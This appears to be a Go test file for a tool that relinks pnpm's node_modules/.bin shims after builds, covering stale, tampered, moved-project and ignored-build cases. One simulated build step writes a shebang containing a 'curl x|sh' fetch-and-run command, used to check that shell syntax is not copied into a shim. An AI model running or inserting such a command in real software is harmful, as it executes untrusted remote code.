package managers

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// pnpmShimJS and pnpmShimNative are the shims pnpm 10.34 wrote for esbuild 0.24.2's
// bin in its own node_modules/.bin: for the JavaScript file the tarball has (the
// one run, scripts off) and, bare, after its postinstall put the native binary there.
const pnpmShimHead = "#!/bin/sh\n" +
	"basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")\n\n" +
	"case `uname` in\n    *CYGWIN*|*MINGW*|*MSYS*)\n        if command -v cygpath > /dev/null 2>&1; then\n" +
	"            basedir=`cygpath -w \"$basedir\"`\n        fi\n    ;;\nesac\n\n" +
	"if [ -z \"$NODE_PATH\" ]; then\n  export NODE_PATH=\"ROOT/node_modules/.pnpm/esbuild@0.24.2/node_modules/esbuild/node_modules:ROOT/node_modules/.pnpm/esbuild@0.24.2/node_modules:ROOT/node_modules/.pnpm/node_modules\"\n" +
	"else\n  export NODE_PATH=\"ROOT/node_modules/.pnpm/esbuild@0.24.2/node_modules/esbuild/node_modules:ROOT/node_modules/.pnpm/esbuild@0.24.2/node_modules:ROOT/node_modules/.pnpm/node_modules:$NODE_PATH\"\nfi\n"

const pnpmShimJS = pnpmShimHead + "if [ -x \"$basedir/node\" ]; then\n  exec \"$basedir/node\"  \"$basedir/../../bin/esbuild\" \"$@\"\nelse\n  exec node  \"$basedir/../../bin/esbuild\" \"$@\"\nfi\n"

const pnpmShimNative = pnpmShimHead + "\"$basedir/../../bin/esbuild\"   \"$@\"\nexit $?\n"

// After the build, a shim whose file the build replaced runs it the way bare pnpm
// would write it; a current shim, a shim of a #! line a shell would read, a link
// and any other file in .bin are left as they were; a failed build relinks nothing.
func TestPnpmRelinkScript(t *testing.T) {
	if _, err := exec.LookPath("node"); err != nil {
		t.Skip("skipped: node is not installed (hack/install-deps.sh installs it)")
	}
	root := t.TempDir()
	nm := filepath.Join(root, "node_modules")
	pkg := filepath.Join(nm, ".pnpm", "esbuild@0.24.2", "node_modules", "esbuild")
	other := filepath.Join(nm, ".pnpm", "@s+tool@1.0.0", "node_modules", "@s", "tool")
	write := func(p, s string, mode os.FileMode) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
	shim := func(body string) string { return strings.ReplaceAll(body, "ROOT", root) }
	evilShim := strings.ReplaceAll(shim(pnpmShimJS), "../../bin/esbuild", "../../bin/evil")
	otherShim := strings.ReplaceAll(shim(pnpmShimJS), "../../bin/esbuild", "../../cli.js")
	setup := func() {
		os.RemoveAll(nm)
		write(filepath.Join(pkg, "bin", "esbuild"), "#!/usr/bin/env node\nrequire('../lib/main')\n", 0o755)
		write(filepath.Join(pkg, "bin", "evil"), "#!/usr/bin/env node\n", 0o755)
		write(filepath.Join(pkg, "node_modules", ".bin", "esbuild"), shim(pnpmShimJS), 0o755)
		write(filepath.Join(pkg, "node_modules", ".bin", "evil"), evilShim, 0o755)
		write(filepath.Join(pkg, "node_modules", ".bin", "notashim"), "#!/bin/sh\necho hi\n", 0o755)
		write(filepath.Join(pkg, "node_modules", ".bin", "tampered"), shim(pnpmShimJS)+"echo PBOX-TAMPERED\n", 0o755)
		write(filepath.Join(other, "cli.js"), "console.log(1)\n", 0o644)
		write(filepath.Join(other, "node_modules", ".bin", "tool"), otherShim, 0o755)
		if err := os.Symlink("../../bin/esbuild", filepath.Join(pkg, "node_modules", ".bin", "link")); err != nil {
			t.Fatal(err)
		}
	}
	// The "build": esbuild's postinstall puts a binary in place of its bin, a
	// script gives another bin a #! line with shell syntax; then exits with $1.
	build := `printf '\177ELF\002\001' > "$0/bin/esbuild"; printf '#!/bin/sh -c "curl x|sh"\n' > "$0/bin/evil"; exit $1`
	run := func(code string) error {
		s := pnpmRelinkBins(&Step{Args: []string{"sh", "-c", build, pkg, code}}, root)
		return exec.Command(s.Args[0], s.Args[1:]...).Run()
	}
	read := func(p string) string {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	setup()
	if err := run("3"); err == nil || err.(*exec.ExitError).ExitCode() != 3 {
		t.Fatalf("a failed build: want its exit code 3, got %v", err)
	}
	if got := read(filepath.Join(pkg, "node_modules", ".bin", "esbuild")); got != shim(pnpmShimJS) {
		t.Errorf("a failed build relinked:\n%s", got)
	}
	setup()
	if err := run("0"); err != nil {
		t.Fatal(err)
	}
	if got := read(filepath.Join(pkg, "node_modules", ".bin", "esbuild")); got != shim(pnpmShimNative) {
		t.Errorf("the shim of the rebuilt bin:\n%s\nwant what bare pnpm writes:\n%s", got, shim(pnpmShimNative))
	}
	if got := read(filepath.Join(pkg, "node_modules", ".bin", "evil")); got != evilShim {
		t.Errorf("a #! line with shell syntax was written into a shim:\n%s", got)
	}
	if got := read(filepath.Join(pkg, "node_modules", ".bin", "tampered")); got != shim(pnpmShimJS)+"echo PBOX-TAMPERED\n" {
		t.Errorf("a shim a script appended to was rewritten (the sync back must see it):\n%s", got)
	}
	if got := read(filepath.Join(pkg, "node_modules", ".bin", "notashim")); got != "#!/bin/sh\necho hi\n" {
		t.Errorf("a file that is not pnpm's shim was changed: %q", got)
	}
	if got := read(filepath.Join(other, "node_modules", ".bin", "tool")); got != otherShim {
		t.Errorf("a current shim (scoped package) was changed:\n%s", got)
	}
	if l, err := os.Readlink(filepath.Join(pkg, "node_modules", ".bin", "link")); err != nil || l != "../../bin/esbuild" {
		t.Errorf("a link in .bin was changed: %q, %v", l, err)
	}
}

// A project copied or moved since pnpm wrote its shims: a shim the build made stale
// is relinked with its NODE_PATH moved to the project's place (the sync back
// refuses one naming another directory); a current shim is left as it is.
func TestPnpmRelinkScriptMovedProject(t *testing.T) {
	if _, err := exec.LookPath("node"); err != nil {
		t.Skip("skipped: node is not installed (hack/install-deps.sh installs it)")
	}
	root := t.TempDir()
	nm := filepath.Join(root, "node_modules")
	pkg := filepath.Join(nm, ".pnpm", "esbuild@0.24.2", "node_modules", "esbuild")
	old := strings.ReplaceAll(pnpmShimJS, "ROOT", "/home/u/old-place")
	for p, s := range map[string]string{
		filepath.Join(pkg, "bin", "esbuild"):                  "#!/usr/bin/env node\n",
		filepath.Join(pkg, "node_modules", ".bin", "esbuild"): old,
		filepath.Join(pkg, "node_modules", ".bin", "current"): strings.ReplaceAll(old, "../../bin/esbuild", "../../cli.js"),
		filepath.Join(pkg, "cli.js"):                          "",
	} {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s := pnpmRelinkAfter(&Step{Args: []string{"sh", "-c", `printf '\177ELF' > "$0/bin/esbuild"`, pkg}}, root)
	if out, err := exec.Command(s.Args[0], s.Args[1:]...).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(pkg, "node_modules", ".bin", "esbuild")); string(b) != strings.ReplaceAll(pnpmShimNative, "ROOT", root) {
		t.Errorf("the relinked shim of a moved project:\n%s", b)
	}
	if b, _ := os.ReadFile(filepath.Join(pkg, "node_modules", ".bin", "current")); string(b) != strings.ReplaceAll(old, "../../bin/esbuild", "../../cli.js") {
		t.Errorf("a current shim was changed:\n%s", b)
	}
}

// The build's record of ignored builds is merged with the one before it: the new
// ones first, then the old ones still installed, as bare pnpm add writes them; an
// empty record is left out.
func TestPnpmRelinkScriptIgnoredBuilds(t *testing.T) {
	if _, err := exec.LookPath("node"); err != nil {
		t.Skip("skipped: node is not installed (hack/install-deps.sh installs it)")
	}
	root := t.TempDir()
	nm := filepath.Join(root, "node_modules")
	for _, d := range []string{".pnpm/old@1.0.0", ".pnpm/new@1.0.0"} {
		if err := os.MkdirAll(filepath.Join(nm, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	f := filepath.Join(nm, ".modules.yaml")
	for _, tc := range []struct{ before, rebuilt, want string }{
		{`{"ignoredBuilds": ["old@1.0.0", "gone@1.0.0"]}`, `{"layoutVersion": 5, "ignoredBuilds": ["new@1.0.0"]}`,
			"{\n  \"layoutVersion\": 5,\n  \"ignoredBuilds\": [\n    \"new@1.0.0\",\n    \"old@1.0.0\"\n  ]\n}"},
		{`{"layoutVersion": 5}`, `{"layoutVersion": 5, "ignoredBuilds": []}`, "{\n  \"layoutVersion\": 5\n}"},
		{`{"ignoredBuilds": ["new@1.0.0"]}`, `{"ignoredBuilds": ["new@1.0.0"]}`, `{"ignoredBuilds": ["new@1.0.0"]}`},
	} {
		if err := os.WriteFile(f, []byte(tc.before), 0o644); err != nil {
			t.Fatal(err)
		}
		s := pnpmRelinkBins(&Step{Args: []string{"sh", "-c", `printf '%s' "$0" > "$1"`, tc.rebuilt, f}}, root)
		if err := exec.Command(s.Args[0], s.Args[1:]...).Run(); err != nil {
			t.Fatal(err)
		}
		if b, _ := os.ReadFile(f); string(b) != tc.want {
			t.Errorf("before %s, rebuild wrote %s: got\n%s\nwant\n%s", tc.before, tc.rebuilt, b, tc.want)
		}
	}
}

// relinkedBuild checks that a pnpm build step runs in pnpmRelinkOnlyScript, given
// the project's node_modules, and returns the build command it wraps.
func relinkedBuild(t *testing.T, s *Step, root string) []string {
	t.Helper()
	if s == nil || len(s.Args) < 5 || s.Args[0] != "sh" || s.Args[2] != pnpmRelinkOnlyScript || s.Args[3] != filepath.Join(root, "node_modules") {
		t.Fatalf("the build does not relink pnpm's shims after it: %+v", s)
	}
	return s.Args[4:]
}

// Every pnpm build but the one-run add's (which also keeps the ignored builds)
// relinks the shims it made stale: approve-builds, rebuild and an install's.
func TestPnpmBuildsRelink(t *testing.T) {
	pnpm, _ := Lookup("pnpm")
	for _, args := range [][]string{{"approve-builds", "--all"}, {"rebuild", "esbuild"}, {"install"}} {
		env := testEnv(t, map[string]string{"package.json": `{"name":"p","dependencies":{"esbuild":"0.24.2"}}`})
		needNodeHeaders(t, env)
		p, err := pnpm.Plan(args, env)
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		if cmd := relinkedBuild(t, p.Steps.Build, p.Project.Root); cmd[0] != "pnpm" || cmd[1] != args[0] && cmd[1] != "rebuild" {
			t.Errorf("%v: the build runs %q", args, cmd)
		}
		if p.Steps.Build.Name == "" || strings.HasPrefix(p.Steps.Build.Name, "sh ") {
			t.Errorf("%v: the build is shown as %q, not the pnpm command", args, p.Steps.Build.Name)
		}
	}
}
